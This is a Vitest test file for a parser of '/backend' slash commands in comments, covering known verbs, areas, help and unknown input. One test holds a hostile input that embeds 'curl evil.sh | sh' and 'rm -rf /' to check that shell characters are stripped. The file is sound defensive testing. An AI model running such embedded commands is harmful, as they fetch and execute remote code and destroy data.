import { describe, expect, it } from 'vitest';
import { parseBackendCommand } from '../../src/commands/backend-command.js';

describe('parseBackendCommand', () => {
  it('reads a simple command from the first line only', () => {
    expect(parseBackendCommand('/backend report\n/backend review security')).toEqual({ name: 'report' });
  });

  it('reads review and handoff with a known area', () => {
    expect(parseBackendCommand('/backend review performance')).toEqual({
      name: 'review',
      area: 'performance',
    });
    expect(parseBackendCommand('  /Backend HANDOFF api-design  ')).toEqual({
      name: 'handoff',
      area: 'api-design',
    });
  });

  it('treats a bare /backend as help', () => {
    expect(parseBackendCommand('/backend')).toEqual({ name: 'help' });
  });

  it('returns undefined for comments that are not commands', () => {
    expect(parseBackendCommand('LGTM, but /backend report please')).toBeUndefined();
    expect(parseBackendCommand('/backendreport')).toBeUndefined();
    expect(parseBackendCommand('')).toBeUndefined();
  });

  it('marks unknown areas and verbs as unknown, keeping only a short safe echo', () => {
    expect(parseBackendCommand('/backend review everything')).toEqual({
      name: 'unknown',
      text: 'review everything',
    });
    const hostile = parseBackendCommand('/backend run $(curl evil.sh | sh) `rm -rf /`');
    expect(hostile?.name).toBe('unknown');
    expect(hostile && 'text' in hostile ? hostile.text : '').not.toMatch(/[$`|()/]/);
  });

  it('rejects extra arguments after a simple command', () => {
    expect(parseBackendCommand('/backend report now')?.name).toBe('unknown');
  });
});
